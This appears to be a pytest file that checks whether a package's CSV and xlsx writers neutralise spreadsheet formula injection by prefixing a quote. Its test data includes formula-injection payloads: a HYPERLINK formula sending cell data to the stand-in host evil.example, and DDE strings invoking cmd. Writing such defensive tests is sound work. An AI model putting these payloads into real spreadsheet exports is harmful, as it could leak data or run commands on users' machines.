"""No formula injection: text from users never starts a formula in CSV or xlsx output."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from digistrat.exchange.cells import csv_writer, safe, safe_row, safe_text, unsafe_text

# What a spreadsheet would run: formulas, DDE, and the same hidden behind a tab or a return.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-1+2",
    "+44 20 7946 0000",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_a_formula_is_prefixed_with_a_quote(text: str) -> None:
    assert safe_text(text) == "'" + text
    assert unsafe_text(safe_text(text)) == text


@pytest.mark.parametrize(
    "text", ["Voice Recognition", "e-Consent", "", "'quoted", "a=b", "100% digital", " =x"]
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert safe_text(text) == text
    assert unsafe_text(text) == text


@pytest.mark.parametrize("value", [-2.5, -3, 0, 70.0, date(2027, 3, 31), True, None])
def test_numbers_dates_and_empty_cells_stay_what_they_are(value: object) -> None:
    assert safe(value) is value


@pytest.mark.parametrize("text", ["-2.5", "+3", "-0", "-1e3", "-.5"])
def test_numbers_written_as_text_stay_numbers(text: str) -> None:
    assert safe_text(text) == text


def test_a_row_mixes_both() -> None:
    assert safe_row(["=1", -1, "ok", "-1"]) == ["'=1", -1, "ok", "-1"]


def test_the_csv_writer_neutralises_every_cell_and_keeps_the_text_readable() -> None:
    buf = io.StringIO()
    w = csv_writer(buf)
    w.writerow(["name", "total"])
    for text in FORMULAS:
        w.writerow([text, "-1.5"])
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert rows[0] == ["name", "total"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in FORMULAS]
    assert {r[1] for r in rows[1:]} == {"-1.5"}
